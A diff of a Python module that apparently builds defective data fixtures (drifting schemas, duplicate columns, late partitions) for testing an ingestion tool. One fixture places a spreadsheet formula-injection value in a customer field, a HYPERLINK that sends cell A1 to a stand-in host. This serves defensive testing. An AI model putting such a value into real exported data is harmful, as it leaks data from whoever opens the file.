@@ -6,7 +6,8 @@ import json
 import os
 import zipfile
 from collections.abc import Callable
-from datetime import UTC, date, datetime, timedelta
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
 from pathlib import Path
 
 import openpyxl
@@ -14,13 +15,20 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 
 ROWS = 200
-FIRST_DAY = date(2026, 10, 1)
+#: The day of the first partition; the last of twenty is that of yesterday.
+FIRST_DAY = datetime.now(UTC).date() - timedelta(days=20)
+TYPES: dict[str, pa.DataType] = {
+    "order_id": pa.int64(),
+    "customer": pa.string(),
+    "amount": pa.decimal128(12, 2),
+    "created_at": pa.timestamp("us", tz="UTC"),
+}
 _NAMES = ("Ada", "Grace", "Edsger", "Barbara", "Donald")
 
 
 def rows(count: int = ROWS, *, start: int = 0) -> list[dict[str, object]]:
     """Orders with a key, an amount, a name and a time."""
-    begin = datetime(2026, 10, 1, tzinfo=UTC)
+    begin = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
     return [
         {
             "order_id": start + n,
@@ -32,6 +40,12 @@ def rows(count: int = ROWS, *, start: int = 0) -> list[dict[str, object]]:
     ]
 
 
+def _typed(value: object, kind: pa.DataType) -> object:
+    if pa.types.is_decimal(kind):
+        return Decimal(str(value))
+    return datetime.fromisoformat(str(value)) if pa.types.is_timestamp(kind) else value
+
+
 def csv_bytes(lines: list[dict[str, object]], *, delimiter: str = ",") -> bytes:
     names = list(lines[0])
     text = [delimiter.join(names)]
@@ -40,9 +54,10 @@ def csv_bytes(lines: list[dict[str, object]], *, delimiter: str = ",") -> bytes:
 
 
 def parquet(path: Path, lines: list[dict[str, object]], **columns: pa.DataType) -> None:
-    """Columns with the types of their values, or with those that are given."""
+    """Columns with the types that a careful producer gives them, or with those that are given."""
+    kinds = TYPES | columns
     names = list(lines[0])
-    arrays = [pa.array([line[n] for line in lines], columns.get(n)) for n in names]
+    arrays = [pa.array([_typed(line[n], kinds[n]) for line in lines], kinds[n]) for n in names]
     path.parent.mkdir(parents=True, exist_ok=True)
     pq.write_table(pa.table(arrays, names=names), path)
 
@@ -57,7 +72,7 @@ def clean(folder: Path) -> None:
     )
     (folder / "customers.json").write_text(json.dumps(rows(50)))
     (folder / "prices.xml").write_text(
-        "<prices>" + "".join(f"<p><sku>s{n}</sku><eur>{n}.5</eur></p>" for n in range(50)) + "</prices>"
+        f"<prices>{''.join(f'<p><sku>s{n}</sku><eur>{n}.5</eur></p>' for n in range(50))}</prices>"
     )
     parquet(folder / "stock.parquet", rows())
     workbook = openpyxl.Workbook()
@@ -102,7 +117,7 @@ def close(folder: Path) -> None:
 
 def formula(folder: Path) -> None:
     lines = rows()
-    lines[7]["customer"] = '=HYPERLINK("http://x.example/?"&A1)'.replace(",", ";")
+    lines[7]["customer"] = '=HYPERLINK("http://x.example/?"&A1)'
     (folder / "formula.csv").write_bytes(csv_bytes(lines))
 
 
@@ -129,7 +144,8 @@ def other_bytes(folder: Path) -> None:
 def drift(folder: Path) -> None:
     for number in range(4):
         parquet(folder / f"lines_{number}.parquet", rows())
-    parquet(folder / "lines_4.parquet", [r | {"amount": str(r["amount"])} for r in rows()])
+    parquet(folder / "lines_4.parquet", [r | {"amount": str(r["amount"])} for r in rows()],
+            amount=pa.string())  # fmt: skip
 
 
 def encodings(folder: Path) -> None:
@@ -145,7 +161,7 @@ def ragged(folder: Path) -> None:
 
 
 def twins(folder: Path) -> None:
-    (folder / "twins.csv").write_bytes(b"id,amount,amount\n" + b"".join(b"%d,2,3\n" % n for n in range(50)))
+    (folder / "twins.csv").write_bytes(b"id,amount,amount\n" + b"1,2,3\n" * 50)
 
 
 def gap(folder: Path) -> None:
@@ -154,7 +170,8 @@ def gap(folder: Path) -> None:
 
 def late(folder: Path) -> None:
     daily(folder / "late", range(20))
-    path = folder / "late" / "day=2026-10-06" / "part-0000.parquet"
+    day = FIRST_DAY + timedelta(days=5)
+    path = folder / "late" / f"day={day.isoformat()}" / "part-0000.parquet"
     after = path.stat().st_mtime + 9 * 86_400
     os.utime(path, (after, after))
 
